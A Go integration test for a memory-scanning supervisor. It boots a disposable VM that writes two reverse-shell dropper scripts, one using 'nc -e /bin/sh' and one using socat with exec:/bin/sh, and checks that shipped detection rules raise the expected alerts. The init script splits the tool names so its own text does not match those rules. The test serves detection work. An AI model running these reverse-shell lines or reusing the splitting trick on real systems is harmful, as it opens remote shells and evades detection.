package supervisor

import (
	"context"
	"fmt"
	"net"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/domainm/domainm/appliance/internal/alert"
	"github.com/domainm/domainm/memscan/vmtest"
)

// TestSecondAttackInLiveGuest reproduces issue 8 item 1 with a live Linux guest (TCG,
// busybox initramfs) whose RAM file the supervisor scans with the shipped reverse-shell
// rules: a dropper script with nc -e is alerted as new; a second one with socat, written
// later, is alerted as memory-match-updated under the same finding; copies of both
// alert nothing. The guest writes each stage when the test says so on a second serial
// port, and assembles the command lines at run time, so that its own init script does not
// match the rules.
func TestSecondAttackInLiveGuest(t *testing.T) {
	if testing.Short() {
		t.Skip("boots a VM")
	}
	kernel, err := vmtest.Kernel()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	script := `mount -t tmpfs tmpfs /tmp
n="n""c"; s="so""cat"; e="ex""ec"
exec 3< /dev/ttyS1
echo GUEST-BOOTED
read -r go <&3
printf '#!/bin/sh\n%s -e /bin/sh 198.51.100.23 4444\n' "$n" > /tmp/stage1.sh
echo GUEST-NC
read -r go <&3
printf '#!/bin/sh\n%s tcp:203.0.113.9:443 %s:/bin/sh,pty,stderr\n' "$s" "$e" > /tmp/stage2.sh
echo GUEST-SOCAT
read -r go <&3
cp /tmp/stage1.sh /tmp/copy1.sh; cat /tmp/stage2.sh > /tmp/copy2.sh; cat /tmp/copy1.sh /tmp/copy2.sh > /dev/null
echo GUEST-COPIED
while :; do sleep 1000; done`
	initrd := filepath.Join(dir, "initrd.cpio")
	if err := vmtest.BuildInitramfs(initrd, script, nil); err != nil {
		t.Fatal(err)
	}
	trig := filepath.Join(dir, "trigger.sock")
	vm := vmtest.Start(t, vmtest.Config{Memory: 256 << 20, Kernel: kernel, Initrd: initrd,
		Append: "quiet panic=-1", Timeout: 60 * time.Second, Extra: []string{
			"-chardev", "socket,id=trig,path=" + trig + ",server=on,wait=off",
			"-device", "isa-serial,chardev=trig",
		}})
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	defer cancel()
	step := func(marker string) {
		t.Helper()
		sctx, scancel := context.WithTimeout(ctx, 2*time.Minute)
		defer scancel()
		if err := vm.WaitSerial(sctx, marker); err != nil {
			t.Fatalf("guest: no %s: %v\n%s", marker, err, vm.Serial())
		}
	}
	step("GUEST-BOOTED")
	conn, err := net.Dial("unix", trig)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	next := func() {
		t.Helper()
		if _, err := fmt.Fprintf(conn, "go\n"); err != nil {
			t.Fatal(err)
		}
	}

	h := newHarness(t, harnessOpts{realClock: true, interval: time.Second, rulesDir: shippedRules(t, "linux_reverse_shell.yar")})
	h.stop()
	h.cfg.Target.Memory = "file:" + vm.RAMFile
	h.restart()
	h.waitFor("two passes over the clean guest", func() bool { return h.passes() >= 2 })
	h.quiet(shellRule, 0, "clean guest")

	wait := func(what string, cond func() bool) {
		t.Helper()
		deadline := time.Now().Add(2 * time.Minute)
		for !cond() {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %s; alerts:\n%s", what, h.alerts.dump())
			}
			time.Sleep(100 * time.Millisecond)
		}
	}
	next()
	step("GUEST-NC")
	wait("nc alerted", func() bool { return len(h.alerts.with("memory-match", shellRule)) == 1 })
	first := h.alerts.with("memory-match", shellRule)[0]
	if !hasMatch(first.DomainM.Matches, "$nc1", "nc -e /bin/sh") {
		t.Errorf("first alert names %+v, want $nc1 %q", first.DomainM.Matches, "nc -e /bin/sh")
	}
	p := h.passes()
	wait("two more passes", func() bool { return h.passes() >= p+2 })
	n := ruleAlerts(h, shellRule)

	next()
	step("GUEST-SOCAT")
	wait("socat alerted", func() bool { return len(h.alerts.with("memory-match-updated", shellRule)) >= 1 })
	up := h.alerts.with("memory-match-updated", shellRule)[0]
	if up.DomainM.FindingID != first.DomainM.FindingID || !hasMatch(up.DomainM.Matches, "$socat", socatMatch) ||
		hasMatch(up.DomainM.Matches, "$nc1", "nc -e /bin/sh") {
		t.Errorf("updated alert (finding %s, first %s) names %+v, want only $socat %q", up.DomainM.FindingID, first.DomainM.FindingID, up.DomainM.Matches, socatMatch)
	}
	p = h.passes()
	wait("two more passes", func() bool { return h.passes() >= p+2 })
	n2 := ruleAlerts(h, shellRule)
	if n2 != n+1 {
		t.Errorf("%d alerts for the socat stage, want 1:\n%s", n2-n, h.alerts.dump())
	}

	next()
	step("GUEST-COPIED")
	p = h.passes()
	wait("three more passes", func() bool { return h.passes() >= p+3 })
	h.quiet(shellRule, n2, "copies of both stages")
	t.Logf("guest accel %s; alerts:\n%s", vm.Accel, h.alerts.dump())
}

func hasMatch(ms []alert.Match, name, text string) bool {
	for _, m := range ms {
		if m.Name == name && strings.HasPrefix(m.DataText, text) {
			return true
		}
	}
	return false
}
